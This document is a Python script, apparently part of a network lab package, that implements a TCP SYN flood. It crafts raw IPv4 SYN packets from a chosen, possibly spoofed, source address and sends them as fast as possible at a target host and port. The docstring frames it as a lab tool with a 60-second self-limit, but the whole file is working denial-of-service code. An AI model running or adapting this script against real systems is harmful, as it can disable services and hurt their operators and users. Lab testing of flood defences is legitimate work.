"""Send TCP SYNs from one address as fast as Python can, until ended: ``python flood.py SOURCE TARGET PORT``.

For machines without hping3. It is meant for the attacker's namespace of a lab, needs no other module of the package,
and gives up by itself after `LIMIT_S` seconds.
"""

from __future__ import annotations

import socket
import struct
import sys
import time

LIMIT_S = 60.0
VARIANTS = 4096
"""Prepared packets that are sent round and round; each has its own source port."""


def checksum(data: bytes) -> int:
    """Return the Internet checksum (RFC 1071) of an even number of bytes."""
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(source: str, target: str, sport: int, dport: int) -> bytes:
    """Return an IPv4 packet with a TCP SYN; the kernel fills in the IP checksum, length and identification."""
    addresses = socket.inet_aton(source) + socket.inet_aton(target)
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 40, 0, 0, 64, socket.IPPROTO_TCP, 0) + addresses
    tcp = struct.pack("!HHIIBBHHH", sport, dport, sport * 65537, 0, 5 << 4, 0x02, 64240, 0, 0)
    pseudo = addresses + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    return ip + tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]


def main(source: str, target: str, port: str) -> None:
    """Flood until killed or until `LIMIT_S` is over."""
    packets = [syn(source, target, 1024 + variant, int(port)) for variant in range(VARIANTS)]
    end = time.monotonic() + LIMIT_S
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sender:
        while time.monotonic() < end:
            for packet in packets:
                sender.sendto(packet, (target, 0))


if __name__ == "__main__":
    main(*sys.argv[1:4])
